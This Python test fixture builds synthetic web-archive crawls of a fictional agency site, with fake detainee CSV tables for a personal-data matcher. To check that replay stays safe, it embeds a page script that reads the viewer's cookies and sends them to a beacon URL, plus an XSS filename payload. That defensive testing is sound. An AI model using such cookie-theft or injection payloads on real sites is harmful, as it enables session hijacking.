"""A small archive for the web tests: two crawls of a synthetic agency site written as WARC files and
loaded through the real indexer (catalog rows, versions, changes, findings and search documents).

All personal data is synthetic (hand-written name lists).
"""

from __future__ import annotations

import io
import random
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from sqlalchemy import Engine, select
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from core.catalog.schema import captures, findings
from core.config import Config, Schedule, Site
from indexer.pipeline import index_paths

BASE = "https://agency.example.gov"
DAY1 = datetime(2022, 11, 27, 9, 0, tzinfo=UTC)
DAY2 = datetime(2022, 11, 28, 9, 0, tzinfo=UTC)
XSS_NAME = "<img src=x onerror=alert(1)>.csv"
XSS_URL = f"{BASE}/files/%3Cimg%20src=x%20onerror=alert(1)%3E.csv"

FIRST = ["Maria", "José", "Ahmed", "Olga", "Chen", "Fatima", "Luis", "Amina", "Pedro", "Irina", "Samuel",
         "Lucía", "Hassan", "Elena", "Jorge", "Nadia", "Tomás", "Grace", "Omar", "Rosa"]
LAST = ["Hernández", "García", "Okafor", "Petrova", "Wang", "Haddad", "Ramírez", "Diallo", "Silva", "Ivanova",
        "Mensah", "Torres", "Karimi", "Popescu", "Castillo", "Nowak", "Álvarez", "Achebe", "Farouk", "Morales"]
COUNTRIES = ["Mexico", "Guatemala", "Honduras", "El Salvador", "Venezuela", "Haiti", "Cuba", "Nicaragua"]
FACILITIES = ["Otay Mesa", "Adelanto", "Krome", "Stewart", "Port Isabel"]

# A script that tries to read the UI's cookie and send it out (the replay must keep it inert).
EVIL_PAGE = (
    "<html><head><title>Archived &lt;b&gt;statistics&lt;/b&gt; page</title></head><body>"
    "<h1>Detention statistics</h1><p>Quarterly &lt;script&gt;alert(2)&lt;/script&gt; figures.</p>"
    "<p id='out'>untouched</p>"
    "<script>"
    "var c = ''; try { c = document.cookie + '|' + window.parent.document.cookie; } catch (e) { c = 'blocked:' + e; }"
    "document.getElementById('out').textContent = 'script ran: ' + c;"
    "try { window.parent.document.body.innerHTML = 'owned'; } catch (e) {}"
    "new Image().src = '{beacon}/steal?c=' + encodeURIComponent(c);"
    "fetch('{beacon}/fetch?c=' + encodeURIComponent(c)).catch(function () {});"
    "</script></body></html>"
)


def detainee_csv(rows: int, seed: int) -> bytes:
    rng = random.Random(seed)
    lines = ["Full Name,Date of Birth,Country of Citizenship,A-Number,Detention Facility"]
    for _ in range(rows):
        name = f"{rng.choice(FIRST)} {rng.choice(LAST)}"
        born = f"{rng.randint(1960, 2003)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
        a_number = f"A{rng.randint(100_000_000, 299_999_999)}"
        lines.append(f"{name},{born},{rng.choice(COUNTRIES)},{a_number},{rng.choice(FACILITIES)}")
    return ("\n".join(lines) + "\n").encode("utf-8")


def zipped(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, data)
    return buffer.getvalue()


def stats_page(body: str) -> bytes:
    return (f"<html><head><title>Detention statistics</title></head><body><h1>Detention statistics</h1>"
            f"{body}</body></html>").encode()


def write_warc(path: Path, responses: list[tuple[str, str, bytes, datetime]]) -> Path:
    with path.open("wb") as fh:
        writer = WARCWriter(fh, gzip=True, warc_version="1.1")
        for url, content_type, body, when in responses:
            http = StatusAndHeaders("200 OK", [("Content-Type", content_type), ("Content-Length", str(len(body)))],
                                    protocol="HTTP/1.1")
            record = writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=http,
                                               warc_headers_dict={"WARC-Date": when.strftime("%Y-%m-%dT%H:%M:%SZ")})
            writer.write_record(record)
    return path


def site_config() -> list[Site]:
    return [Site(id="agency", name="Agency of Examples", seeds=[f"{BASE}/"], schedule=Schedule(interval="6h"))]


@dataclass
class Archive:
    """Ids of the interesting rows, as loaded."""

    page_v1: int
    page_v2: int
    table: int
    table_v2: int
    evil: int
    xss_file: int
    zip_file: int
    finding: int
    zip_finding: int
    table_bytes: bytes
    a_name: str  # a personal name that appears in the table

    def as_dict(self) -> dict[str, Any]:
        return dict(self.__dict__)


def build_archive(config: Config, engine: Engine, search: Any, folder: Path,
                  beacon: str = "http://127.0.0.1:9") -> Archive:
    folder.mkdir(parents=True, exist_ok=True)
    table1 = detainee_csv(40, seed=7)
    table2_lines = table1.decode().splitlines()
    table2 = ("\n".join(table2_lines[:-3] + [detainee_csv(2, seed=99).decode().splitlines()[1]]) + "\n").encode()
    link = "<p><a href='/files/detainees.csv'>Detainee list (CSV)</a></p>"
    page1 = stats_page("<p>Monthly figures for October.</p><p>Totals by country.</p>")
    page2 = stats_page("<p>Monthly figures for November.</p><p>Totals by country.</p>" + link)
    evil = EVIL_PAGE.replace("{beacon}", beacon).encode()
    write_warc(folder / "crawl1.warc.gz", [(f"{BASE}/statistics", "text/html; charset=utf-8", page1, DAY1),
                                           (f"{BASE}/files/detainees.csv", "text/csv", table1, DAY1)])
    write_warc(folder / "crawl2.warc.gz", [
        (f"{BASE}/statistics", "text/html; charset=utf-8", page2, DAY2),
        (f"{BASE}/files/detainees.csv", "text/csv", table2, DAY2),
        (f"{BASE}/archived-evil", "text/html; charset=utf-8", evil, DAY2),
        (XSS_URL, "text/csv", b"District,Count\n<b>North</b>,12\nSouth,9\n", DAY2),
        (f"{BASE}/files/release.zip", "application/zip", zipped(XSS_NAME, detainee_csv(12, seed=5)), DAY2),
    ])
    index_paths([folder / "crawl1.warc.gz"], config, engine, search)
    index_paths([folder / "crawl2.warc.gz"], config, engine, search)
    search.refresh()
    with engine.connect() as conn:
        ids = {(r.url, r.captured_at.replace(tzinfo=UTC) if r.captured_at.tzinfo is None else r.captured_at): r.id
               for r in conn.execute(select(captures.c.id, captures.c.url, captures.c.captured_at))}
        finding_id = conn.execute(select(findings.c.id).order_by(findings.c.id)).scalars().first()
        zip_finding = conn.execute(select(findings.c.id).where(findings.c.url == f"{BASE}/files/release.zip")
                                   ).scalars().first()
    assert finding_id is not None and zip_finding is not None, "the matcher missed a synthetic detainee table"
    return Archive(
        page_v1=ids[(f"{BASE}/statistics", DAY1)], page_v2=ids[(f"{BASE}/statistics", DAY2)],
        table=ids[(f"{BASE}/files/detainees.csv", DAY1)], table_v2=ids[(f"{BASE}/files/detainees.csv", DAY2)],
        evil=ids[(f"{BASE}/archived-evil", DAY2)], xss_file=ids[(XSS_URL, DAY2)],
        zip_file=ids[(f"{BASE}/files/release.zip", DAY2)], finding=int(finding_id), zip_finding=int(zip_finding),
        table_bytes=table1, a_name=table1.decode().splitlines()[1].split(",")[0],
    )
